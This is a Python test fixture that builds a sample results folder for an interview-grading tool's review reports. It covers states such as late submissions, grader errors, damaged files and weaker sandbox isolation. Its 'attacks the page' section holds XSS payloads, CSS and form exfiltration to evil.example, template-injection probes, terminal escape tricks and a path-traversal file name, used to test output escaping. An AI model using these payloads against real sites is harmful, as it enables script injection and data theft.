"""A realistic results folder with every state that `archprep review` must handle.

`make` grades nothing: the recorded results of graders are in evidence.json, which
`PYTHONPATH=tests python tests/review/samples.py` writes.
"""

from __future__ import annotations

import hashlib
import json
import re
import tempfile
from collections.abc import Iterator, Mapping
from dataclasses import asdict, replace
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import msgspec
from review.people import OWN, PEOPLE, Person

from archprep.content import catalog, criteria, exercise_files
from archprep.content.wrong_answers import find_wrong_answers, read_wrong_answer
from archprep.content.yaml_reader import read_text, read_yaml
from archprep.core.errors import ContentError
from archprep.core.model import (
    CriterionResult,
    Evidence,
    Exercise,
    Frame,
    Isolation,
    Limits,
    Reason,
    Scorecard,
    State,
    Submission,
    SubmittedFile,
    TaskResult,
)
from archprep.interview.model import Batch, Graded, Kit, KitExercise, Received, SubmittedExercise
from archprep.interview.reports import write_reports
from archprep.interview.results import results_lock
from archprep.interview.results.results_folder import ResultsFolder
from archprep.workspace.submission import DISCUSSION, digest

ROLES = {
    "best": "hanna-lindqvist",
    "ordinary": "bruno-keller",
    "prints": "dana-novakova",
    "three exercises": "chen-wei-ling",
    "hostile": "c1",
    "late": "emeka-okafor",
    "time-out": "ivan-petrov",
    "one missing": "jonas-mueller",
    "unreadable": "quentin-dubois",  # no part: nothing could be read
    "import error": "pedro-alvarez",
    "weaker isolation": "kavya-raman",
    "not scored": "liam-oconnor",
    "waiting": "mei-tanaka",
    "earlier": "noah-weiss",
    "not written": "olga-schmidt",
    "no prompts": "pedro-alvarez",
    "damaged part": "rosa-marin",
    "damaged candidate": "sam-taylor",
}
SEED = 471_123
BEGUN = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
BREACHES = (
    "read_secret see_submission_only network write_submission write_system see_processes "
    "signal_others gain_rights new_namespaces trace_others system_call_filter memory_cap forks_cap"
)
LEVEL_A = Isolation(
    level="A",
    tool="bubblewrap 0.8.0",
    kernel="6.18.44",
    uid=1000,
    seccomp=True,
    selftest=dict.fromkeys(BREACHES.split(), "blocked"),
    sentence="Isolation level A (bubblewrap 0.8.0, no network, graders not visible; self-test "
    "14/14). Not covered: bugs of the kernel.",
    limits=Limits(),
)
LEVEL_D = replace(
    LEVEL_A,
    level="D",
    tool="subprocess",
    seccomp=False,
    selftest=dict.fromkeys(BREACHES.split(), "not tested"),
    sentence="Isolation level D: a plain process with limits, for your own code only. "
    "It can read your files and use the network.",
)
BATCH = Batch(SEED, BEGUN.isoformat(), "0.1.0", LEVEL_A)
_RECORDED = Path(__file__).with_name("evidence.json")
_ITEM = re.compile(r"\d+\.\s+\S.*")


def make(root: Path) -> Path:
    """Write the results of all samples into `root`, and return it."""
    with results_lock.open_for_grading(root, resume=False) as folder:
        folder.begin(BATCH)
        for number, person in enumerate(PEOPLE):
            if person.slug == ROLES["earlier"]:
                _grade_earlier(folder, person, number)
            _add(folder, person, number)
        _add_special(folder)
        for slug in folder.slugs():
            write_reports.write_candidate(folder, slug, BATCH)
        write_reports.write_batch(folder, BATCH)
        _damage(folder)
    return root


def _add(folder: ResultsFolder, person: Person, number: int) -> None:
    received = _received(person, number)
    folder.receive(received)
    for graded in _graded(person):
        folder.save(person.slug, received.digest, graded)


def _received(person: Person, number: int) -> Received:
    begun = BEGUN + timedelta(hours=number)
    ended = begun + timedelta(minutes=person.minutes)
    exercises = ["q1", "q3", *(["q12"] if "q12" in person.code else [])]
    times = {"begun_at": begun, "submitted_at": ended}
    return Received(
        name=person.name,
        slug=person.slug,
        source=f"{person.slug}.zip",
        received_at=(ended + timedelta(minutes=3)).isoformat(),
        digest=_hash(person.slug),
        exercises=tuple(SubmittedExercise(name, Path()) for name in exercises),
        kit=_kit(person.name, exercises, begun - timedelta(days=1)),
        flags=person.flags,
        superseded=person.before,
        reported={key: at.isoformat() for key, at in times.items()},
    )


def _kit(name: str, exercises: list[str], made: datetime) -> Kit:
    given = [_exercise(name) for name in exercises]
    handed = tuple(KitExercise(e.id, e.folder, e.version, _hash(e.folder)) for e in given)
    return Kit(name, 90, made.isoformat(), "0.1.0", handed)


def _graded(person: Person) -> Iterator[Graded]:
    for exercise in person.code:
        source = source_of(person, exercise)
        yield Graded(exercise, _card(person, exercise, source), source=source)


# ------------------------------------------------------------------ what they wrote


def source_of(person: Person, name: str) -> dict[str, str]:
    """The files that a person handed in for an exercise."""
    exercise = _exercise(name)
    starter = {
        name: read_text(path) for name, path in exercise_files.starter_files(exercise).items()
    }
    talk = {DISCUSSION: discussion(exercise, person)}
    mistakes = person.code[name]
    if mistakes is None:
        return {**starter, **talk}
    written = exercise_files.reference(exercise)
    for mistake in mistakes:
        written = _with(mistake, written, exercise)
    return {**starter, **written, **talk}


def _with(mistake: str, written: Mapping[str, str], exercise: Exercise) -> dict[str, str]:
    if mistake in OWN:
        name, old, new = OWN[mistake]
        return {**written, name: written[name].replace(old, new)}
    try:
        return _wrong(exercise.id)[mistake].files(written)
    except (KeyError, ContentError):  # exercises live on: a sample does without this mistake then
        return dict(written)


def discussion(exercise: Exercise, person: Person) -> str:
    """DISCUSSION.md: each prompt with the answer below it; only answers without prompts."""
    texts = [
        _answer(exercise.id, n, kind) for n, kind in enumerate(person.talk.get(exercise.id, ""))
    ]
    prompts = exercise_files.discussion(exercise)
    if not person.prompts:
        return "\n".join(text for text in texts if text)
    head, *items = re.split(r"^(?=\d+\. )", prompts, flags=re.MULTILINE)
    texts += [""] * (len(items) - len(texts))
    return head + "".join(f"{i}{t}" for i, t in zip(items, texts, strict=True))


def _answer(exercise: str, number: int, kind: str) -> str:
    return "" if kind == "-" else f"\n{_answers()[exercise][number][kind]}\n\n"


# ------------------------------------------------------------------ what the graders said


def _card(person: Person, name: str, source: Mapping[str, str]) -> Scorecard:
    said = {c["id"]: c for c in _recorded().get(f"{person.slug}/{name}", ())}
    found = tuple(_result(c, said) for c in criteria.declared(_exercise(name)))
    return card(name, found, source)


def card(
    name: str, found: tuple[CriterionResult, ...], source: Mapping[str, str], **changes: Any
) -> Scorecard:
    """The scorecard of these results."""
    exercise = _exercise(name)
    files = tuple(_file(path, text) for path, text in sorted(source.items()))
    made = Scorecard(
        exercise=name,
        title=exercise.title,
        exercise_version=exercise.version,
        archprep_version="0.1.0",
        seed=SEED,
        started_at=(BEGUN + timedelta(days=1)).isoformat(),
        duration_s=round(2.1 + sum(c.duration_s for c in found), 3),
        isolation=replace(LEVEL_A, limits=exercise.limits),
        submission=Submission(Path(), digest(files), files),
        tasks=tuple(_task(t.number, t.title, found) for t in exercise.tasks),
        criteria=found,
    )
    return replace(made, **changes)


def _result(declared: criteria.Criterion, said: Mapping[str, Any]) -> CriterionResult:
    facts = (declared.id, declared.title, declared.task, declared.points)
    if declared.id not in said:
        return CriterionResult(*facts, declared.points, State.PASSED, duration_s=0.041)
    found = msgspec.convert(said[declared.id], CriterionResult)
    # What the exercise says of a criterion may have changed since.
    return replace(found, title=declared.title, task=declared.task, points=declared.points)


def _task(number: int, title: str, found: tuple[CriterionResult, ...]) -> TaskResult:
    mine = [c for c in found if c.task == number]
    return TaskResult(number, title, sum(c.points for c in mine), sum(c.earned for c in mine))


def _file(path: str, text: str) -> SubmittedFile:
    data = text.encode("utf-8", "surrogatepass")
    return SubmittedFile(path, hashlib.sha256(data).hexdigest(), len(data))


# ------------------------------------------------------------------ the special ones


def _add_special(folder: ResultsFolder) -> None:
    _grade_again(folder, "kavya-raman", "q1", isolation=LEVEL_D)
    _grade_again(folder, "kavya-raman", "q3", isolation=LEVEL_D)
    _break_grader(folder, "liam-oconnor", "q3")
    missing = Graded("q3", problem="ratelimit.py is missing from what was handed in.")
    folder.save("jonas-mueller", _hash("jonas-mueller"), missing)
    folder.receive(_hostile_received())
    folder.save("c1", _hash("c1"), _hostile_graded("q1"))
    folder.save("c1", _hash("c1"), Graded("q3", problem=HOSTILE, source={"ratelimit.py": HOSTILE}))
    for slug, name in (("quentin-dubois", "Quentin Dubois"), ("sam-taylor", "Sam Taylor")):
        person = Person(slug, name, {})
        problem = f"{slug}.zip is no zip archive: it looks like a RAR archive."
        folder.receive(replace(_received(person, 18), exercises=(), kit=None, problem=problem))


def _grade_again(folder: ResultsFolder, slug: str, name: str, **changes: Any) -> None:
    graded = folder.graded(slug, name)
    assert graded.scorecard
    again = replace(graded, scorecard=replace(graded.scorecard, **changes))
    folder.save(slug, _hash(slug), again)


def _break_grader(folder: ResultsFolder, slug: str, name: str) -> None:
    """A fault of ours keeps the verdict on the last two criteria."""
    found = folder.graded(slug, name).scorecard
    assert found
    *kept, one, other = found.criteria
    why = "the Redis server of the grader did not start"
    broken = tuple(
        CriterionResult(c.id, c.title, c.task, c.points, 0, State.GRADER_ERROR, why)
        for c in (one, other)
    )
    criteria_ = (*kept, *broken)
    tasks = tuple(_task(t.number, t.title, criteria_) for t in found.tasks)
    _grade_again(folder, slug, name, criteria=criteria_, tasks=tasks)


def _grade_earlier(folder: ResultsFolder, person: Person, number: int) -> None:
    """Before: the starter, then what replaced it, both graded with weaker isolation."""
    received = _received(person, number)
    first = replace(received, digest=_hash("first"), source="noah.zip", superseded=())
    starter = next(one for one in PEOPLE if one.slug == ROLES["not written"])
    for each, whose, hours in ((first, starter, 15), (received, person, 20)):
        folder.receive(each)  # puts aside what another submission has got
        started_at = (BEGUN + timedelta(hours=hours)).isoformat()
        for one in _graded(whose):
            assert one.scorecard
            found = replace(one.scorecard, isolation=LEVEL_D, started_at=started_at)
            folder.save(person.slug, each.digest, replace(one, scorecard=found))
        write_reports.write_candidate(folder, person.slug, BATCH)
    folder.copy_to_earlier(person.slug)


def _damage(folder: ResultsFolder) -> None:
    part = folder.graded_file(ROLES["damaged part"], "q3")
    part.write_bytes(part.read_bytes()[:4000])
    (folder.candidate(ROLES["damaged candidate"]) / "candidate.json").write_text(
        '{"format": 1, "na'
    )


# ------------------------------------------------------------------ somebody who attacks the page

SCRIPT = "<script>window.owned=1;document.title='owned';alert(1)</script>"
HOSTILE = rf"""{SCRIPT}
</textarea></pre></dd></dl></td></table></form>--><img src=x onerror="window.owned=1;alert(1)">
"><svg onload="window.owned=1"><a href="javascript:window.owned=1">click me</a>
' autofocus onfocus='window.owned=1' x='
</style><style>*{{display:none!important;background:url(http://evil.example/leak)}}</style>
<link rel=stylesheet href=//evil.example/x.css><iframe src=//evil.example></iframe>
<meta http-equiv=refresh content="0;url=http://evil.example"><base href=//evil.example/>
<form action=http://evil.example><button>Save</button></form>
{{{{7*7}}}} {{% include 'x' %}} ${{7*7}} %s [click](javascript:alert(1)) http://evil.example
""" + "\n".join((
    "a\u202eb\u2066c\u200bd\ufeff \x1b[2J\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ \x07",
    "nul\x00 wide " + "x" * 3000 + " 漢字" * 200,
))  # fmt: skip
_HOSTILE_LINE = f"</h1>{SCRIPT}\"'><img src=x onerror=window.owned=1> \u202eevil\x1b[31m"
_HOSTILE_FILE = '"><img src=x onerror=window.owned=1>/../' + "long" * 40 + ".py"


def _hostile_received() -> Received:
    """As it would be if intake's own cleaning had failed."""
    person = Person("c1", _HOSTILE_LINE, {})
    return replace(
        _received(person, 17),
        source="javascript:window.owned=1",
        flags=(_HOSTILE_LINE, "late by 3 min " + SCRIPT),
        superseded=(_HOSTILE_FILE,),
        reported={_HOSTILE_LINE: [HOSTILE], "begun_at": {"a": {"b": {"c": HOSTILE}}}},
    )


def _hostile_graded(name: str) -> Graded:
    declared = criteria.declared(_exercise(name))
    states = (State.FAILED, State.CANDIDATE_ERROR, State.FAILED, State.BLOCKED)
    found = tuple(
        _hostile_result(c, states[n % 4]) if n % 2 else _result(c, {})
        for n, c in enumerate(declared)
    )
    source = {
        "eventbus.py": f"# {HOSTILE}\n" + exercise_files.reference(_exercise(name))["eventbus.py"],
        _HOSTILE_FILE: HOSTILE,
        DISCUSSION: discussion(_exercise(name), PEOPLE[1]).replace("\n\n", f"\n\n{HOSTILE}\n\n"),
    }
    return Graded(name, card(name, found, source), source=source)


def _hostile_result(declared: criteria.Criterion, state: State) -> CriterionResult:
    frames = (
        Frame("eventbus.py", 3, SCRIPT, HOSTILE),
        Frame(_HOSTILE_FILE, 2, "javascript:window.owned=1", SCRIPT),
        Frame("javascript:window.owned=1", 10**12, "f", ""),
    )
    seen = Evidence(HOSTILE, HOSTILE, HOSTILE, frames, HOSTILE)
    shown = replace(_result(declared, {}), earned=0, state=state, expected=HOSTILE)
    reason = {State.CANDIDATE_ERROR: Reason.CRASH.value, State.BLOCKED: HOSTILE}.get(state)
    return replace(shown, observed=HOSTILE, evidence=seen, hint=HOSTILE, reason=reason)


# ------------------------------------------------------------------ read once


@cache
def _exercise(name: str) -> Exercise:
    return catalog.get(name)


@cache
def _wrong(name: str) -> dict[str, Any]:
    wrong = map(read_wrong_answer, find_wrong_answers(_exercise(name)))
    return {answer.name: answer for answer in wrong}


@cache
def _answers() -> dict[str, list[dict[str, str]]]:
    return dict(read_yaml(Path(__file__).with_name("answers.yaml")))


@cache
def _recorded() -> dict[str, list[dict[str, Any]]]:
    return dict(json.loads(_RECORDED.read_text())) if _RECORDED.exists() else {}


def _hash(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


# ------------------------------------------------------------------ recording


def record() -> None:
    """Grade everybody once, in the sandbox, and keep what did not pass."""
    kept: dict[str, list[dict[str, Any]]] = {}
    for person in PEOPLE:
        for name in person.code:
            found = [c for c in _really_graded(person, name) if c.state is not State.PASSED]
            kept[f"{person.slug}/{name}"] = [asdict(c) for c in found]
    _RECORDED.write_text(json.dumps(kept, indent=1, default=str) + "\n")


def _really_graded(person: Person, name: str) -> tuple[CriterionResult, ...]:
    from archprep.grading import session
    from archprep.workspace import submission as intake

    with tempfile.TemporaryDirectory() as folder:
        place, stage = Path(folder, "place"), Path(folder, "stage")
        for path, text in source_of(person, name).items():
            (place / path).parent.mkdir(parents=True, exist_ok=True)
            (place / path).write_text(text)
        submission = intake.freeze(place, _exercise(name), stage)
        try:
            return session.grade(_exercise(name), submission, seed=SEED).criteria
        finally:
            intake.discard(stage)


if __name__ == "__main__":
    record()
